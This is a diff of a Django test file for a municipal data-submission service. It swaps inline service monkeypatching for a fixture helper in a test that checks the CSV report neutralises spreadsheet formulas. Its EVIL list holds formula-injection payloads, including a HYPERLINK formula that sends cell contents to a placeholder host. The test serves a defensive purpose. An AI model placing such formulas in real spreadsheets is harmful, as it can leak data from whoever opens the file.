@@ -9,10 +9,12 @@ from django.urls import reverse
 from openpyxl import Workbook, load_workbook
 
 from mottak.models import Kommune
-from mottak.services import deliveries as svc
 from mottak.spreadsheet import csv_writer, safe_cell, xlsx_append
 from tests.delivery_fixtures import *  # noqa: F403
-from tests.delivery_fixtures import envelope, finding_make, report_make, upload
+from tests.delivery_fixtures import (
+    controlled_with_findings,
+    finding_make,
+)
 from tests.ssb_fixtures import deliveries_2020, kommuner_2020, round_2020_std  # noqa: F401
 
 EVIL = ['=HYPERLINK("http://x/?"&A1)', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
@@ -46,15 +48,10 @@ def test_report_csv_neutralises_cells_from_the_file(
     findings = [
         finding_make("030", "WARNING", 1, "=1+2", caseworker="@SUM(A1)", message="-2+3 feil")
     ]
-    monkeypatch.setattr(svc, "kontroll_run", lambda **kw: report_make(findings, records=1))
-    monkeypatch.setattr(
-        svc, "control_job_push", lambda *, delivery_id, job_id, at_front=False: None
-    )
-    delivery = svc.submission_create(
-        user=kontakt_bergen, kommune_nr="4601", skjema="11F", aar=2020,
-        file=upload(envelope(portal_keys, b"x")), check_only=True,
+    delivery = controlled_with_findings(
+        user=kontakt_bergen, portal_keys=portal_keys, monkeypatch=monkeypatch,
+        findings=findings, records=1,
     )  # fmt: skip
-    svc.submission_run_control(delivery_id=delivery.pk)
     client.force_login(kontakt_bergen)
     body = client.get(reverse("mottak:report_csv", args=[delivery.pk])).content.decode()
     rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff")), delimiter=";"))
